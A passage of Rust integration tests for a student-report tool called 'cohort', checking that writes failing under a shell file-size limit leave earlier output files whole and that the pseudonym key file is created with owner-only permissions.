                "{name} is whole"
            );
        } else if name.ends_with(".csv") {
            assert!(bytes.ends_with(b"\n"), "{name} is whole");
        } else {
            panic!("unexpected file {name} left in the export folder");
        }
    }
}

/// Runs cohort with a file size limit of `blocks` (512-byte blocks in `sh`, which is dash here; 1024 in bash) and
/// SIGXFSZ ignored: writes past the limit fail with EFBIG, as on a disk that fills up.
fn run_with_file_limit(blocks: u32, args: &[&str]) -> Output {
    std::process::Command::new("sh")
        .arg("-c")
        .arg(format!("trap '' XFSZ; ulimit -f {blocks}; exec \"$0\" \"$@\""))
        .arg(assert_cmd::cargo::cargo_bin("cohort"))
        .args(args)
        .output()
        .expect("run sh")
}

fn names_in(dir: &Path) -> BTreeSet<String> {
    std::fs::read_dir(dir)
        .expect("list")
        .map(|e| e.expect("entry").file_name().to_string_lossy().into_owned())
        .collect()
}

#[test]
fn a_failed_plot_or_html_write_leaves_the_previous_file_whole() {
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 1314, 4);
    // A copied report: the dupes page has pairs to show, and grows past the limit below.
    write(&readme(&c.root, "copy_group"), c.reports[0].markdown.as_bytes());
    ingest_ok(&c);
    let out = dir.path().join("out");
    std::fs::create_dir_all(&out).expect("mkdir");
    let limit_bytes = 4 * 1024; // 4 blocks: 2 KB under dash, 4 KB under bash.
    let writes: Vec<(&str, Vec<String>)> = vec![
        (
            "checklist.svg",
            vec!["plot".into(), "checklist".into(), "--index".into(), s(&c.index).into(), "--out".into()],
        ),
        (
            "checklist.png",
            vec!["plot".into(), "checklist".into(), "--index".into(), s(&c.index).into(), "--out".into()],
        ),
        ("pairs.html", vec!["dupes".into(), s(&c.root).into(), "--html".into()]),
    ];
    for (name, args) in &writes {
        let path = out.join(name);
        let mut args: Vec<&str> = args.iter().map(String::as_str).collect();
        args.push(s(&path));
        run_ok(&args);
        let before = std::fs::read(&path).expect("the first write");
        assert!(before.len() > limit_bytes, "{name}: {} bytes do not reach the limit", before.len());
        let failed = run_with_file_limit(4, &args);
        assert_eq!(
            failed.status.code(),
            Some(2),
            "{name}: the write fails: {}",
            String::from_utf8_lossy(&failed.stderr)
        );
        assert!(std::fs::read(&path).expect("still there") == before, "{name}: the previous file was damaged");
    }
    // Nothing else is left in the folder (no temporary file).
    assert_eq!(names_in(&out), writes.iter().map(|(n, _)| n.to_string()).collect::<BTreeSet<_>>());
    // And where there was no file, a failed write leaves none.
    for (name, args) in &writes {
        let path = dir.path().join(format!("fresh-{name}"));
        let mut args: Vec<&str> = args.iter().map(String::as_str).collect();
        args.push(s(&path));
        let failed = run_with_file_limit(4, &args);
        assert_eq!(failed.status.code(), Some(2), "{name}: {}", String::from_utf8_lossy(&failed.stderr));
        assert!(!path.exists(), "{name}: a partial file was left");
    }
}

#[cfg(unix)]
#[test]
fn the_pseudonym_key_is_written_whole_and_readable_by_its_owner_only() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().expect("temp dir");
    let c = make_cohort(dir.path(), 1315, 2);
    ingest_ok(&c);
    run_ok(&["export", "--index", s(&c.index), "--out", s(&dir.path().join("out")), "--pseudonymise"]);
    let key = c.index.join("pseudonym.key");
    let meta = std::fs::metadata(&key).expect("the key");
    assert_eq!(meta.len(), 32);
    assert_eq!(meta.permissions().mode() & 0o777, 0o600, "the key turns pseudonyms back into student numbers");
}
